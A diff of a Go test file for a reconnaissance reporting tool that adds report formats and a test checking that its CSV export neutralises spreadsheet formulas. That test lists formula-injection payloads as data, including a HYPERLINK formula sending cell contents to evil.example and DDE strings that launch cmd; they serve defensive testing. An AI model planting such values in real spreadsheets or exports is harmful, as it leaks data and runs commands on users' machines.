@@ -2,9 +2,11 @@ package main
 
 import (
 	"encoding/json"
+	"fmt"
 	"os"
 	"path/filepath"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -94,7 +96,7 @@ func TestReportMarkdown(t *testing.T) {
 
 func TestReportFormatsAndOut(t *testing.T) {
 	dir := reportDir(t, reportHCL)
-	for _, format := range []string{"md", "html", "json", "csv", "cof", "dot", "mermaid"} {
+	for _, format := range []string{"md", "html", "json", "csv", "cof", "dot", "mermaid", "graphml", "stix", "misp"} {
 		t.Run(format, func(t *testing.T) {
 			out := "report." + format
 			r := runCLI(t, dir, reportEnv, "report", "-format", format, "-out", out, dir)
@@ -105,8 +107,8 @@ func TestReportFormatsAndOut(t *testing.T) {
 			if err != nil || len(data) == 0 {
 				t.Fatalf("no report written: %v", err)
 			}
-			if format == "json" && !json.Valid(data) {
-				t.Error("the JSON report is not valid JSON")
+			if (format == "json" || format == "stix" || format == "misp") && !json.Valid(data) {
+				t.Errorf("the %s report is not valid JSON", format)
 			}
 		})
 	}
@@ -163,13 +165,11 @@ func TestReportErrors(t *testing.T) {
 	}
 }
 
-// runStamp matches the wall-clock times of runs in a report, which change
-// with every test run.
-var runStamp = regexp.MustCompile(`\d{4}-\d\d-\d\d \d\d:\d\d UTC`)
-
-// TestReportQuickstart reports on the quickstart after its two runs: the
-// profile, tokens, verdicts, shared hosting and timeline of Northwind.
-func TestReportQuickstart(t *testing.T) {
+// quickstartRuns copies the quickstart to a temporary folder and runs its
+// two applies (the March and the April snapshot), with facts derived by
+// the real analysis; it returns the folder.
+func quickstartRuns(t *testing.T) string {
+	t.Helper()
 	pinned := deriveFacts
 	deriveFacts = nil
 	t.Cleanup(func() { deriveFacts = pinned })
@@ -183,12 +183,34 @@ func TestReportQuickstart(t *testing.T) {
 			t.Fatalf("%q: exit %d\n%s%s", args, r.Code, r.Stdout, r.Stderr)
 		}
 	}
+	return dir
+}
+
+// runStamp matches the wall-clock times of runs in a report, which change
+// with every test run.
+var runStamp = regexp.MustCompile(`\d{4}-\d\d-\d\d \d\d:\d\d UTC`)
+
+// runTime matches the run's finishing time in the HTML report's data.
+var runTime = regexp.MustCompile(`"now":"[^"]*"`)
+
+// reportAssets matches the bodies of the HTML report's embedded assets
+// (the graph library, its stylesheet and script, the CSP with their
+// hashes): the golden file is about the content.
+var reportAssets = regexp.MustCompile(`(?s)(<script id="cytoscape">|<script id="report-js">|<style id="report-css">|<meta http-equiv="Content-Security-Policy" content=")(.*?)(</script>|</style>|">)`)
+
+// TestReportQuickstart reports on the quickstart after its two runs: the
+// profile, tokens, verdicts, shared hosting and timeline of Northwind.
+func TestReportQuickstart(t *testing.T) {
+	dir := quickstartRuns(t)
 	for _, format := range []string{"md", "html", "mermaid"} {
 		r := runCLI(t, dir, reportEnv, "report", "-format", format, "-var", "snapshot=2")
 		if r.Code != exitOK || r.Stderr != "" {
 			t.Fatalf("report -format %s: exit %d\n%s", format, r.Code, r.Stderr)
 		}
 		out := runStamp.ReplaceAllString(r.Stdout, "2025-04-01 00:00 UTC")
+		if format == "html" {
+			out = runTime.ReplaceAllString(reportAssets.ReplaceAllString(out, "$1/* asset */$3"), `"now":"2025-04-01T00:00:00Z"`)
+		}
 		checkGolden(t, "report/quickstart."+format, out)
 		if format != "md" {
 			continue
@@ -235,5 +257,97 @@ func TestReportHandWrittenState(t *testing.T) {
 			!strings.Contains(r.Stdout, "| AS64500 EXAMPLE-ORG | `192.0.2.0/24` | 1 |")) {
 			t.Errorf("no AS in\n%s", r.Stdout)
 		}
+	}
+}
+
+// The CSV export neutralises values a spreadsheet would run as formulas,
+// and the file provider reads the export back to the same findings: the
+// protection costs nothing on a round trip through reconform.
+func TestReportCSVRoundTrip(t *testing.T) {
+	at := func(y, m, d int) time.Time { return time.Date(y, time.Month(m), d, 0, 0, 0, 0, time.UTC) }
+	hostile := []string{
+		`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
+		"+cmd|' /C calc'!A0",
+		"-2+3+cmd|' /C calc'!A0",
+		"@SUM(1+9)*cmd|' /C calc'!A0",
+		"'=already quoted",
+		"v=spf1 -all",
+	}
+	s := state.New("export")
+	s.Run.FinishedAt = at(2026, 11, 20)
+	for i, v := range hostile {
+		f := schema.NewFinding("hostile.example", "TXT", v)
+		f.FirstSeen, f.LastSeen, f.Count, f.Sources = at(2024, 1, 1+i), at(2026, 11, 1), int64(10+i), []string{"file.seed"}
+		s.Findings = append(s.Findings, state.Finding{Finding: f, Currency: state.Historical})
+	}
+	a := schema.NewFinding("hostile.example", "A", "192.0.2.80")
+	a.FirstSeen, a.LastSeen, a.Count = at(2023, 5, 1), at(2026, 11, 1), 3
+	s.Findings = append(s.Findings, state.Finding{Finding: a, Currency: state.Historical})
+	state.SortFindings(s.Findings)
+	dir := t.TempDir()
+	if _, err := (&state.Store{Path: filepath.Join(dir, "export.rfstate")}).Write(nil, s); err != nil {
+		t.Fatal(err)
+	}
+	if r := runCLI(t, dir, reportEnv, "report", "-format", "csv", "-out", "export.csv", "export.rfstate"); r.Code != exitOK {
+		t.Fatalf("report: %d %s", r.Code, r.Stderr)
+	}
+	csvData, err := os.ReadFile(filepath.Join(dir, "export.csv"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, line := range strings.Split(strings.TrimSpace(string(csvData)), "\n")[1:] {
+		fields := strings.SplitN(line, ",", 3)
+		if v := fields[2]; strings.ContainsAny(v[:1], "=+-@") {
+			t.Errorf("a value starts a formula: %s", line)
+		}
+	}
+
+	back := filepath.Join(dir, "back")
+	if err := os.MkdirAll(back, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	hcl := `engagement "back" {
+  state = "back.rfstate"
+}
+scope {
+  domains = ["hostile.example"]
+}
+provider "file" "export" {
+  path   = "../export.csv"
+  format = "csv"
+}
+target "domain" "hostile" { name = "hostile.example" }
+query "records" {
+  provider = provider.file.export
+  op       = "resolutions"
+  subjects = [target.domain.hostile]
+}
+`
+	if err := os.WriteFile(filepath.Join(back, "main.hcl"), []byte(hcl), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if r := runCLI(t, back, nil, "apply", "-auto-approve"); r.Code != exitOK {
+		t.Fatalf("apply on the export: %d\n%s%s", r.Code, r.Stdout, r.Stderr)
+	}
+	got, err := state.ReadFile(filepath.Join(back, "back.rfstate"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	type rec struct {
+		Name, Type, Value string
+		First, Last       time.Time
+		Count             int64
+	}
+	var want, have []string
+	for _, f := range s.Findings {
+		want = append(want, fmt.Sprint(rec{f.Name, f.Type, f.Value, f.FirstSeen, f.LastSeen, f.Count}))
+	}
+	for _, f := range got.Findings {
+		have = append(have, fmt.Sprint(rec{f.Name, f.Type, f.Value, f.FirstSeen.UTC(), f.LastSeen.UTC(), f.Count}))
+	}
+	slices.Sort(want)
+	slices.Sort(have)
+	if !slices.Equal(want, have) {
+		t.Errorf("the file provider read the CSV export back as\n%s\nwant\n%s", strings.Join(have, "\n"), strings.Join(want, "\n"))
 	}
 }
